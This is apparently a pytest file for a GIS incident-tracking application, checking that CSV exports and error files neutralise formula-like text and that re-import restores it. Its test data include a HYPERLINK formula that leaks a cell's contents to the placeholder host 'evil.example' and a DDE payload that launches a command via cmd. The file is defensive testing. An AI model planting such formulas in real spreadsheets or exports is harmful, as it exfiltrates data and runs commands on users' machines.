"""CSV formula injection: exports and error files neutralise formula-like text; our readers restore it."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
from sqlalchemy.orm import Session

from gisgrid.files.csvsafe import neutralise, restore
from gisgrid.incidents.bulk_import import ImportResult, error_csv
from gisgrid.incidents.bulk_read import read_table
from gisgrid.io.export import export_file
from gisgrid.io.importer import import_file

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_neutralise_and_restore_are_inverse_and_leave_numbers_alone() -> None:
    for value in (EVIL, "+cmd|' /C calc'!A0", "@SUM(1)", "-x", "\tx", "正常名称", "-12.5", "+86", ""):
        assert restore(neutralise(value)) == value
    assert neutralise(EVIL).startswith("'=")
    assert neutralise("-12.5") == "-12.5" and neutralise(7) == 7


def test_a_layer_csv_export_is_safe_and_reimports_unchanged(session: Session, tmp_path: Path) -> None:
    src = tmp_path / "sites.geojson"
    feature = {
        "type": "Feature",
        "properties": {"id": "X1", "kind": "outpost", "name": EVIL, "address": "@home"},
        "geometry": {"type": "Point", "coordinates": [104.1, 30.64]},
    }
    src.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), encoding="utf-8")
    import_file(session, layer="sites", path=src, crs="wgs84")
    out = tmp_path / "sites.csv"
    export_file(session, layer="sites", path=out)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    evil = next(r for r in rows if r["id"] == "X1")
    assert evil["name"] == "'" + EVIL and evil["address"] == "'@home"
    import_file(session, layer="sites", path=out, replace=True, crs="wgs84")
    export_file(session, layer="sites", path=tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == out.read_bytes()


def test_the_hotline_error_file_is_safe_and_reimports(tmp_path: Path) -> None:
    head = {"行号 row": [2], "工单编号 ext_id": ["=1+1"], "错误原因 reason": ["x"]}
    errors = pd.DataFrame({**head, "ext_id": ["=1+1"], "lon": ["-104.1"], "lat": ["30.6"], "title": [EVIL]})
    result = ImportResult(file="f.csv", format="csv", crs="wgs84", rows=1, errors=errors)
    path = tmp_path / "errors.csv"
    path.write_text(error_csv(result), encoding="utf-8")
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")
    table = read_table(path)  # re-importing the corrected error file gives the original text back
    assert table.raw["title"].iloc[0] == EVIL and table.fields["ext_id"].iloc[0] == "=1+1"
    assert table.fields["lon"].iloc[0] == "-104.1"  # a number is never touched
